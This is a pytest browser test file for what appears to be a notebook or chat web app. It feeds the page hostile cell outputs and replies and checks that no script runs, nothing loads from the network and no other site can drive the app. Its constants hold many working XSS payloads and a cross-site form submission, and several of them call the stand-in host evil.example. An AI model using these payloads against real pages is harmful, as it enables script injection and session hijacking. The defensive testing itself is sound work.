"""Outputs and replies that attack the page: nothing of them runs, loads, or leaves."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

pytestmark = pytest.mark.browser

ATTACKS = """
<script>parent.window.pwned = 1; top.window.pwned = 1; window.pwned = 1; alert(1)</script>
<script src="http://evil.example/a.js"></script>
<img src="x" onerror="window.pwned = 1"><img src="http://evil.example/a.png">
<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/base/">
<link rel="stylesheet" href="http://evil.example/a.css">
<style>body { background: url(http://evil.example/b.png) } @import 'http://evil.example/c.css';</style>
<form action="http://evil.example/form"><input name="secret" autofocus onfocus="window.pwned = 1">
<button>Go</button></form>
<iframe src="http://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.parent.pwned = 1</script>"></iframe>
<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e">
<video src="http://evil.example/v" autoplay onerror="window.pwned = 1"></video>
<a id="link" href="javascript:parent.window.pwned = 1" target="_top">click</a>
<a href="http://evil.example/top" target="_top">leave</a>
<table id="told" class="log" onclick="window.pwned = 1"><tr><td id="text-1" style="position: fixed">
cell</td></tr></table>
<button data-post="close">Close</button><div data-new>New</div>
</pre></details></article></div></section><h1 class="broken">out</h1><!--
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40" onload="window.pwned = 1">
<script>window.pwned = 1; alert(1)</script><rect width="90" height="40" fill="teal"/>
<image href="http://evil.example/i.png" width="9" height="9"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/f"/>
</foreignObject></svg>"""
CELL = f"""```python
import sys
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
attacks = {ATTACKS!r}
display(HTML(attacks))
display(SVG({SVG!r}))
display(Javascript('window.pwned = 1'))
display(Markdown(attacks))
display(Latex(attacks))
display({{'text/plain': attacks, 'application/json': {{'a': attacks}}}}, raw=True)
display({{'text/plain': attacks, 'image/png': 'bm90IGEgcGljdHVyZQ=='}}, raw=True)
print(attacks, '\\x1b[31mred \\x1b]8;;http://evil.example/\\x07link\\x1b]8;;\\x07')
print(attacks, file=sys.stderr)
open('<img src=x onerror=window.pwned=1>.csv', 'w').write(attacks)
open('page.html', 'w').write(attacks)
open('drawn.svg', 'w').write({SVG!r})
raise ValueError(attacks)
```"""
REPLY = f"""{ATTACKS}

[a](javascript:window.pwned=1) ![b](http://evil.example/md.png)
[c](data:text/html,<script>alert(1)</script>)
[page.html](page.html) ![drawn](drawn.svg) <http://evil.example/auto> [d](//evil.example/d)

```html
{ATTACKS}
```

| {ATTACKS.splitlines()[1]} | b |
|---|---|
| <script>window.pwned=1</script> | [x](javascript:alert(1)) |
"""


def attack(served, visit, backend):
    page = served([CELL, REPLY, REPLY], backend=backend)
    window = visit(page)
    browser = window.page
    window.ask(f'<script>window.pwned = 1</script> {ATTACKS}')
    browser.wait_for_selector('.made')
    window.answered()

    # Everything that can be unfolded is, and everything is drawn.
    for summary in browser.locator('#log-1 summary').all():
        summary.click()
    for frame in browser.locator('iframe').all():
        frame.scroll_into_view_if_needed()
    browser.wait_for_timeout(1_000)  # what would happen would happen now

    frames = [frame for frame in browser.frames if frame != browser.main_frame]
    assert len(frames) >= 1
    for frame in browser.frames:
        if frame.url.startswith(page.origin):
            assert frame.evaluate('window.pwned') is None
    return page, window


@pytest.mark.docker
def test_nothing_of_an_attack_runs_loads_or_leaves(served, visit, stranger):
    before = stranger.connections
    page, window = attack(served, visit, 'docker')
    browser = window.page
    assert stranger.connections == before
    assert window.dialogs == []
    assert window.errors == []
    assert browser.url.startswith(page.url)
    # The page itself was given nothing that its policy had to refuse: it was cleaned before.
    assert browser.evaluate('window.violations') == []

    # The parts of the page are where they were, and are there once.
    for selector in ('#told', '#text-1', '#log-1', '.composer'):
        assert window.count(selector) == 1
    assert window.count('.broken') == 0
    assert window.count('main .pane') == 1
    assert window.count('#log-1 [data-post], #log-1 [data-new], #log-1 form, #log-1 input') == 0
    assert window.count('#log-1 script, #log-1 style, #log-1 meta, #log-1 base, #log-1 object') == 0
    attributes = browser.evaluate("""[...document.querySelectorAll('*')]
        .flatMap(each => [...each.attributes]).map(each => each.name)""")
    assert [each for each in attributes if each.startswith('on') or each == 'style'] == []

    links = browser.locator('#log-1 a').all()
    addresses = {link.get_attribute('href') for link in links}
    assert not any('javascript' in each or 'data:' in each for each in addresses)
    for link in links:
        if (link.get_attribute('href') or '').startswith('http'):
            assert link.get_attribute('rel') == 'noopener noreferrer nofollow'

    # HTML that was shown in a frame is of an origin of its own, opened by itself as well.
    source = browser.locator('iframe').first.get_attribute('src')
    alone = window.context.new_page()
    alone.goto(page.origin + source)
    assert alone.evaluate('window.origin') == 'null'
    assert alone.evaluate('window.pwned') is None
    alone.close()

    with browser.expect_download() as waiting:
        browser.click('.prose a >> text=page.html')
    assert waiting.value.suggested_filename == 'page.html'


ELSEWHERE = """
<iframe src="{url}/"></iframe><img src="{url}/static/icon.svg" onerror="window.refused = 1">
<form id="f" method="post" enctype="text/plain" action="{url}/s/1/ask" target="t">
<input name='{{"question": "' value='driven"}}'></form><iframe name="t"></iframe>
<script>
document.getElementById('f').submit();
fetch('{url}/', {{credentials: 'include'}}).catch(() => {{ window.unread = 1; }});
</script>
"""


@pytest.mark.parametrize('host', ['127.0.0.1', 'localhost'])
def test_a_page_of_elsewhere_can_neither_read_nor_drive_it(served, visit, host):
    page = served(['Hi.'])
    window = visit(page)

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header('content-type', 'text/html')
            self.end_headers()
            self.wfile.write(ELSEWHERE.format(url=page.url).encode())

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(('127.0.0.1', 0), Elsewhere) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        other = window.context.new_page()  # which has the cookie, and may be on the same host
        other.goto(f'http://{host}:{server.server_port}/')
        other.wait_for_function('() => window.refused && window.unread')
        framed = [frame for frame in other.frames if frame != other.main_frame]
        assert len(framed) == 2
        assert not any('composer' in frame.content() for frame in framed)
        other.close()
        server.shutdown()
    assert page.sessions.get(1).since(0) == []


def test_the_test_would_see_a_browser_that_leaves(browser, stranger):
    before = stranger.connections
    tab = browser.new_page()
    tab.set_content('<img src="http://evil.example/a.png" onerror="window.tried = 1">')
    tab.wait_for_function('() => window.tried')
    tab.close()
    assert stranger.connections > before
